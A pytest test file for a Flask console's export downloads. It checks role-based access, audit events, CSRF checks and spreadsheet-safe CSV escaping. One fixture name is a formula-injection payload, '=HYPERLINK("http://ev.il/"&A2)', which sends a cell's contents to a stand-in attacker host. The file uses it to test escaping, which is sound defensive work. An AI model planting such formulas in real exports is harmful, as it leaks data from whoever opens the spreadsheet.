"""Downloads from the console (issue 19 item 6): the CLI's exports byte for byte (the same spreadsheet-safe CSV),
each one an audit event; coordinators everything, organisers cases, trainings and the digest, officials and
village heads only the digest of their own scope; anything else 404; bad input refused, nothing recorded."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from flask import g

from menus.notify import send_text
from models import Case, Person, Staff, Training, database
from models.audit import AuditEvent
from models.case_terms import Report
from models.person import CONSENT_VERSION
from service.exports import csv_chunks, json_chunks, spreadsheet_safe
from tests.support.clock import MONDAY_MORNING, frozen_at, stored
from tests.support.console import csrf_token, give_password, sign_in
from tests.support.staff import COORDINATOR, OFFICIAL, ORGANIZER

VILLAGE_HEAD = "+6281200000022"
HYPERLINK = '=HYPERLINK("http://ev.il/"&A2)'
LAST_WEEK = stored(MONDAY_MORNING - dt.timedelta(days=5))
ALL_EXPORTS = ("people", "messages", "cases", "trainings", "digest", "audit")


@pytest.fixture
def monday():
    """The clock stands still on a Monday morning for the whole test (a session signed later would not be valid at
    an earlier instant), so the last complete week is 23-29 November."""
    with frozen_at(MONDAY_MORNING):
        yield


@pytest.fixture
def staff(monday, case_staff):
    Staff.create(phone=VILLAGE_HEAD, name="Pak Kades", role="official", village="Tracap")
    for phone in (ORGANIZER, COORDINATOR, OFFICIAL, VILLAGE_HEAD):
        give_password(phone)


@pytest.fixture
def records(staff):
    """People (one named like a formula), a case in Tracap and one in Lamuk, a training, an SMS, all last week."""
    with frozen_at(MONDAY_MORNING - dt.timedelta(days=5)), database.atomic():
        for phone, name, village in (
            ("+6281234567004", HYPERLINK, "+1"),
            ("+6281234567005", "Siti Aminah", "Tracap"),
            ("+6281234567006", "Dewi", "Lamuk"),
        ):
            Person.create(
                phone=phone, name=name, village=village, status="calon", language="id", consent_at=LAST_WEEK,
                consent_version=CONSENT_VERSION,
            )  # fmt: skip
        for key, village in (("tracap", "Tracap"), ("lamuk", "Lamuk")):
            case = Case.open(
                Report(
                    reporter_phone="+6281234567005", for_whom="self", category="wages", country="hongkong",
                    safe_to_contact=True, safe_phone=None, story="gaji belum dibayar", consent_to_refer=True,
                    channel="sms", source_key=f"export-{key}",
                )
            )[0]  # fmt: skip
            Case.update(village=village).where(Case.id == case.id).execute()
        Training.add("KOPI1", "Budidaya kopi", "economic", LAST_WEEK + dt.timedelta(days=1), "Balai Desa", 20)
        send_text("+6281234567005", "Terima kasih", "reply")


def signed_in(app, phone: str):
    client = app.test_client()
    g.pop("csrf_token", None)
    assert sign_in(client, phone).status_code == 302
    return client


def download(client, what: str, fmt: str = "csv", **form: str):
    """POST the exports form as a browser does, with the token its page carries."""
    g.pop("csrf_token", None)
    token = csrf_token(client, "/console")
    return client.post("/console/exports", data={"what": what, "format": fmt, "period": "week", **form,
                                                 "csrf_token": token})  # fmt: skip


def audit() -> list[tuple[str, str, str]]:
    return [(e.actor, e.kind, e.target) for e in AuditEvent.select().order_by(AuditEvent.id)]


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("what", ["people", "messages", "cases", "trainings", "digest"])
def test_a_coordinators_download_is_the_clis_export(app, runner, records, what, fmt):
    client = signed_in(app, COORDINATOR)
    response = download(client, what, fmt)
    cli = runner.invoke(args=["export", what, "--format", fmt])
    assert response.status_code == 200 and cli.exit_code == 0, cli.output
    assert response.get_data(as_text=True) == cli.stdout, "byte for byte the CLI's"
    assert response.mimetype == ("text/csv" if fmt == "csv" else "application/json")
    assert response.headers["Cache-Control"] == "no-store"
    date = "2026-11-23" if what == "digest" else "2026-11-30"  # a digest names its period's first day
    suffix = f"digest-week-{date}" if what == "digest" else f"{what}-{date}"
    assert response.headers["Content-Disposition"] == f'attachment; filename="kawalmigran-{suffix}.{fmt}"'
    assert audit() == [(COORDINATOR, "export", what), ("cli", "export", what)]
    rows = json.loads(cli.stdout) if fmt == "json" else list(csv.DictReader(io.StringIO(cli.stdout)))
    assert rows, "there is something to compare"


def test_csv_cells_are_spreadsheet_safe_and_json_keeps_what_is_stored(app, records):
    client = signed_in(app, COORDINATOR)
    rows = {r["phone"]: r for r in csv.DictReader(io.StringIO(download(client, "people").get_data(as_text=True)))}
    assert (rows["+6281234567004"]["name"], rows["+6281234567004"]["village"]) == ("'" + HYPERLINK, "'+1")
    assert "+6281234567005" in rows, "an E.164 phone stays a number"
    people = json.loads(download(client, "people", "json").get_data(as_text=True))
    assert HYPERLINK in {p["name"] for p in people}


def test_the_audit_download_lists_itself_and_every_download(app, records):
    client = signed_in(app, COORDINATOR)
    download(client, "cases")
    listed = json.loads(download(client, "audit", "json").get_data(as_text=True))
    assert [(r["actor"], r["kind"], r["target"]) for r in listed] == [
        (COORDINATOR, "export", "cases"),
        (COORDINATOR, "export", "audit"),
    ]


ALLOWED = {
    COORDINATOR: ALL_EXPORTS,
    ORGANIZER: ("cases", "trainings", "digest"),
    OFFICIAL: ("digest",),
    VILLAGE_HEAD: ("digest",),
}


@pytest.mark.parametrize("phone", list(ALLOWED), ids=["coordinator", "organiser", "official", "village_head"])
def test_each_role_downloads_only_what_is_theirs_and_the_rest_is_404(app, records, phone):
    client = signed_in(app, phone)
    page = client.get("/console/exports")
    assert page.status_code == 200 and "no-store" in page.headers["Cache-Control"]
    offered = [what for what in ALL_EXPORTS if f'<option value="{what}"' in page.get_data(as_text=True)]
    assert offered == list(ALLOWED[phone])
    assert 'href="/console/exports"' in client.get("/console").get_data(as_text=True), "in the menu"
    for what in ALL_EXPORTS:
        status = download(client, what).status_code
        assert status == (200 if what in ALLOWED[phone] else 404), what
    assert audit() == [(phone, "export", what) for what in ALLOWED[phone]], "a refused download is not recorded"


@pytest.mark.parametrize(
    "phone,scopes",
    [(COORDINATOR, ["all", "Tracap"]), (ORGANIZER, ["all", "Tracap"]), (OFFICIAL, ["all"]), (VILLAGE_HEAD, ["Tracap"])],
    ids=["coordinator", "organiser", "official", "village_head"],
)
def test_officials_get_their_own_scope_of_the_digest(app, records, phone, scopes):
    client = signed_in(app, phone)
    rows = json.loads(download(client, "digest", "json", period="week").get_data(as_text=True))
    assert [r["scope"] for r in rows] == scopes
    by_scope = {r["scope"]: r for r in rows}
    if "Tracap" in by_scope:
        assert (by_scope["Tracap"]["registrations"], by_scope["Tracap"]["reports"]) == (1, 1), "Tracap's only"
    if "all" in by_scope:
        assert (by_scope["all"]["registrations"], by_scope["all"]["reports"]) == (3, 2)


def test_a_month_digest_names_its_month(app, records):
    client = signed_in(app, COORDINATOR)
    response = download(client, "digest", "json", period="month")
    assert 'filename="kawalmigran-digest-month-2026-10-01.json"' in response.headers["Content-Disposition"]
    assert {r["period_start"] for r in json.loads(response.get_data(as_text=True))} == {"2026-10-01"}


def test_case_stories_only_for_coordinators_and_only_with_cases(app, runner, records):
    organiser = signed_in(app, ORGANIZER)
    assert download(organiser, "cases", details="1").status_code == 404
    client = signed_in(app, COORDINATOR)
    response = download(client, "cases", "json", details="1")
    assert {r["story"] for r in json.loads(response.get_data(as_text=True))} == {"gaji belum dibayar"}
    cli = runner.invoke(args=["export", "cases", "--format", "json", "--with-details"])
    assert response.get_data(as_text=True) == cli.stdout
    refused = download(client, "trainings", details="1")
    assert refused.status_code == 400 and "Cerita dan catatan hanya ada pada data kasus." in refused.get_data(True)
    assert audit() == [(COORDINATOR, "export", "cases"), ("cli", "export", "cases")]
    assert "Sertakan cerita" not in organiser.get("/console/exports").get_data(as_text=True)


@pytest.mark.parametrize(
    "form,says",
    [
        ({"what": "cases", "fmt": "xlsx"}, "Pilih bentuk CSV atau JSON."),
        ({"what": "digest", "period": "year"}, "Pilih masa ringkasan"),
        ({"what": "digest", "period": ""}, "Pilih masa ringkasan"),
    ],
)
def test_bad_input_is_refused_with_a_clear_answer_and_nothing_is_recorded(app, records, form, says):
    client = signed_in(app, COORDINATOR)
    response = download(client, **form)
    page = response.get_data(as_text=True)
    assert response.status_code == 400 and says in page and "Content-Disposition" not in response.headers
    assert audit() == []
    client.get("/console/exports?lang=en")
    english = download(client, **form).get_data(as_text=True)
    assert "Choose" in english and audit() == []


def test_without_a_token_or_signed_out_nothing_is_downloaded(app, client, records):
    assert client.get("/console/exports").status_code == 302
    signed = signed_in(app, COORDINATOR)
    refused = signed.post("/console/exports", data={"what": "people", "format": "csv"})
    assert refused.status_code == 400 and audit() == []


@pytest.mark.parametrize("count", [0, 1, 3, 5000])
def test_the_streamed_text_is_what_writing_the_whole_list_at_once_gives(count):
    rows = [
        {"phone": f"+62812{i:07d}", "name": "Siti “Aminah”\n" if i % 2 else "=1+1", "events": i, "notes": None}
        for i in range(count)
    ]
    fields = ["phone", "name", "events", "notes"]
    assert "".join(json_chunks(iter(rows))) == json.dumps(rows, ensure_ascii=False, indent=1) + "\n"
    whole = io.StringIO()
    writer = csv.DictWriter(whole, fieldnames=fields, lineterminator="\n")
    writer.writeheader()
    writer.writerows({f: spreadsheet_safe(f, v) for f, v in row.items()} for row in rows)
    pieces = list(csv_chunks(fields, iter(rows)))
    assert "".join(pieces) == whole.getvalue()
    assert count < 5000 or len(pieces) > 1, "a long export comes in pieces"


def test_a_download_is_streamed(app, records):
    client = signed_in(app, COORDINATOR)
    response = download(client, "people")
    assert response.is_streamed and response.status_code == 200


def test_a_cases_record_counts_its_timeline_in_the_same_query(app, records):
    case = Case.get(Case.village == "Tracap")
    with database.atomic():
        case.acknowledge(Staff.get(Staff.phone == ORGANIZER))
        case.add_note(Staff.get(Staff.phone == ORGANIZER), "Sudah telepon keluarga")
    client = signed_in(app, COORDINATOR)
    rows = json.loads(download(client, "cases", "json").get_data(as_text=True))
    counts = {c.display_code: c.events.count() for c in Case.select()}
    assert {r["code"]: r["events"] for r in rows} == counts and max(counts.values()) >= 3
